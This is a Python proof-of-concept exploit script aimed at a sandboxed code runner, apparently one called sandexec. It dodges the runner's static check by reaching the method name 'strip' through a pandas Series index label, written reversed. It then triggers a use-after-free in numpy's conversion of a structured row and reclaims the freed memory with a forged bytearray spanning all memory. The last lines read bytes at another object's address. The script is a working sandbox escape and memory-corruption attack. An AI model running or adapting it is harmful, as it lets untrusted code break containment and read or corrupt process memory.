# source: sandexec README, "The static check", conversion rule (allowed method named only in '.strip(' calls) vs pandas NDFrame.__getattr__: a Series' index label read as an attribute; numpy 1.24 VOID_setitem (arraytypes.c.src) reads a structured row's tuple items borrowed; CPython tuple free list keeps ob_item[1]
# family: script function bound to an allowed conversion method name through a label the library turns into an attribute (series_label), called from __float__ during np.array() of a structured row -> use-after-free
# goal: __float__ runs script code that frees the row tuple and its object field, which is reclaimed by a forged bytearray covering all memory; reads 16 bytes at another object's address (out-of-bounds memory read)
import numpy as np
import pandas as pd

keep = []
hold = []


def addr_of_type(t):
    y = hash(t) % (1 << 64)
    return ((y << 4) | (y >> 60)) % (1 << 64)


BA = addr_of_type(bytearray)


def q(v):
    return (v % (1 << 64)).to_bytes(8, "little")


def boom(*a, **k):
    junk = [(n, n + 1) for n in range(300)]
    hold[0][0] = 0
    payload = q(1 << 40) + q(BA) + q(1 << 60) + q((1 << 60) + 1) + q(0) + q(0) + q(0)
    payload = payload + bytes(479 - len(payload))
    for n in range(8):
        keep.append(bytearray(payload))
    junk.clear()
    return 1.0


NAME = "pirts"[::-1]


class A:
    def __init__(self, s):
        self.s = s

    def __float__(self):
        return float(self.s.strip())


lst = [(A(pd.Series([boom], index=[NAME])), bytes(447))]
hold.append(lst)
arr = np.array(lst, dtype=[("x", "f8"), ("y", "O")])
fake = arr["y"][0]
print("fake object:", type(fake), len(fake))
o = object()
r = repr(o)
a = int(r.split("at ")[1][:-1], 16)
print("read at", hex(a), ":", bytes(fake[a:a + 16]).hex(), "type(object) at", hex(addr_of_type(object)))
